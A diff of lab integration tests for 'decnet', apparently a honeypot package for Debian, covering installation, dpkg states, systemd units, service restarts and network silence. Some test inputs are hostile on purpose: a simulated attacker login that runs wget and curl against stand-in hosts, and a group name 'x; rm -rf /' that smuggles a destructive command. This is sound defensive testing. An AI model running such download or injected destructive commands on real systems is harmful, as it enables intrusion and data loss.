@@ -8,11 +8,12 @@ import pytest
 from decnet.catalog import SERVICES, Role, services_of
 from decnet.install.render import AS_ROOT, unit_of
 from scripts.lib.lab.lab import Lab
+from tests.support.attacks import under_attack
 from tests.support.captures import captured
 from tests.support.machines import Machines
-from tests.support.package_hosts import HONEY, MOUNTED, UNITS, Installation, Packaged
+from tests.support.packaged import HONEY, UNITS, Installed, Packaged
 from tests.support.packages import Package
-from tests.support.signers import Signer
+from tests.support.repositories import SEEN_AT, Repository
 from tests.support.sources import expect_none
 
 pytestmark = pytest.mark.lab
@@ -27,7 +28,7 @@ IN_CHROOT = (
 
 @pytest.mark.bookworm
 def test_it_installs_without_a_question_and_a_network_and_everything_is_well_at_once(
-    default_installation: Installation,
+    default_installation: Installed,
 ) -> None:
     found = default_installation
     assert found.finished.returncode == 0, found.finished.stdout + found.finished.stderr
@@ -41,7 +42,7 @@ def test_it_installs_without_a_question_and_a_network_and_everything_is_well_at_
 
 
 @pytest.mark.bookworm
-def test_a_strange_shell_changes_nothing(honey_installation: Installation) -> None:
+def test_a_strange_shell_changes_nothing(honey_installation: Installed) -> None:
     """Standard input closed, mask 077, no terminal, and a python3 that does not work first on the path."""
     found = honey_installation
     assert found.finished.returncode == 0, found.finished.stdout + found.finished.stderr
@@ -57,7 +58,7 @@ def test_an_attack_is_listed_as_evidence(plain: Packaged) -> None:
 
 
 @pytest.mark.bookworm
-def test_nothing_leaves_the_machine_unasked(default_installation: Installation) -> None:
+def test_nothing_leaves_the_machine_unasked(default_installation: Installed) -> None:
     """Not while it is installed, nor while decoys are put up and attacked, nor after it was booted again."""
     assert default_installation.packets == []
 
@@ -67,10 +68,10 @@ def test_nothing_leaves_the_machine_unasked(default_installation: Installation) 
 @pytest.mark.timeout(QUIET_SECONDS + 300)
 def test_nothing_leaves_the_machine_for_ten_minutes(lab: Lab, plain: Packaged) -> None:
     with captured(lab) as capture:
-        with plain.under_attack() as attack:
+        with under_attack(plain) as attack:
             plain.log_in("wget -O /tmp/x http://192.0.2.7/x; curl -o /tmp/y http://decnet.invalid/y; ping -c 1 192.0.2.7; true")
         assert capture.packets(wait_seconds=QUIET_SECONDS) == []
-    assert attack.answered
+    assert attack.completed
     plain.until_well()
 
 
@@ -112,18 +113,18 @@ def test_systemd_has_nothing_to_say_against_the_units(honey: Packaged) -> None:
 
 
 def test_an_impossible_name_stops_the_package_and_a_possible_one_lets_it_go_on(
-    machine: Machines, repository: Signer, suite: str
+    machine: Machines, repository: Repository, suite: str
 ) -> None:
     """The policy of this host starts nothing, so nothing runs until it is booted again."""
-    packaged = Packaged(machine(suite=suite, binds={repository.repository: MOUNTED}))
+    packaged = Packaged(machine(suite=suite, binds={repository.folder: SEEN_AT}))
     booted = packaged.machine
     booted.put("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", mode=0o755)
     packaged.trust(repository)
     for name, value, written in (("user", "root", "=root"), ("group", "x; rm -rf /", "rm -rf")):
         packaged.answer(**{name: value})
-        refused = packaged.install()
+        refused = packaged.install(check=False)
         assert refused.returncode == 100, refused.stdout
-        assert state(packaged) == "iF "
+        assert packaged.state().startswith("iF ")
         assert (
             booted.run(
                 ["sh", "-c", f"grep -rlF '{written}' /etc/decnet* /etc/*/*decnet* /etc/*/*/*decnet*"], check=False
@@ -132,7 +133,7 @@ def test_an_impossible_name_stops_the_package_and_a_possible_one_lets_it_go_on(
         )
         packaged.answer(**{name: "honey" if name == "user" else "secops"})
     booted.run(["dpkg", "--configure", "-a"], environment={"DEBIAN_FRONTEND": "noninteractive"})
-    assert state(packaged) == "ii "
+    assert packaged.state().startswith("ii ")
     assert (packaged.show("bus", "User"), packaged.show("bus", "Group")) == ("honey", "secops")
     assert booted.output("systemctl", "is-enabled", "decnet.target") == "enabled"
     assert set(packaged.processes().values()) == {0}
@@ -149,8 +150,9 @@ def test_an_image_is_installed_without_a_system_and_takes_its_identity_from_the_
     booted.put("/srv/packages/decnet.deb", package.file.read_bytes())
     booted.put("/etc/decnet/package.conf", "# of the image\nDECNET_GROUP=adm\n")
     booted.power_off()
-    command = ["unshare", "--mount", "--net", "--pid", "--fork", "chroot", str(booted.root), "sh", "-c", IN_CHROOT]
-    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=300)
+    spaces = ("unshare", "--mount", "--net", "--pid", "--fork", "--kill-child")
+    command = [*spaces, "chroot", str(booted.root), "sh", "-c", IN_CHROOT]
+    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=300, process_group=0)
     assert done.returncode == 0, done.stdout + done.stderr
     booted.power_on()
     packaged.until_well()
@@ -161,29 +163,18 @@ def test_an_image_is_installed_without_a_system_and_takes_its_identity_from_the_
 
 
 def test_no_service_goes_on_with_files_that_were_replaced(
-    machine: Machines, honey_installation: Installation, repository: Signer
+    machine: Machines, honey_installation: Installed, repository: Repository
 ) -> None:
     """What needrestart finds where the operator restarts by hand shows that it would find something."""
     layer = honey_installation.layer
-    booted = machine(on=layer, hostname=layer.hostname, binds={repository.repository: MOUNTED})
+    booted = machine(on=layer, hostname=layer.hostname, binds={repository.folder: SEEN_AT})
     packaged = Packaged(booted, HONEY)
     packaged.until_well()
     reinstall = ("install", "--reinstall", "decnet")
     booted.run(["decnet", "configure", "set", "DECNET_RESTART_ON_UPGRADE=no", "--yes"])
     booted.apt(*reinstall)
-    assert set(UNITS) <= set(stale(packaged))
+    assert set(UNITS) <= set(packaged.stale())
     booted.run(["decnet", "configure", "set", "DECNET_RESTART_ON_UPGRADE=yes", "--yes"])
     booted.apt(*reinstall)
     packaged.until_well()
-    assert stale(packaged) == []
-
-
-def stale(packaged: Packaged) -> list[str]:
-    """Return the units that needrestart would restart."""
-    listed = packaged.machine.output("needrestart", "-b", "-r", "l").splitlines()
-    return [line.removeprefix("NEEDRESTART-SVC: ") for line in listed if line.startswith("NEEDRESTART-SVC: ")]
-
-
-def state(packaged: Packaged) -> str:
-    """Return what dpkg says of the package: ``ii`` is installed, ``iF`` half configured."""
-    return packaged.machine.output("dpkg-query", "--show", "--showformat=${db:Status-Abbrev}", "decnet")
+    assert packaged.stale() == []
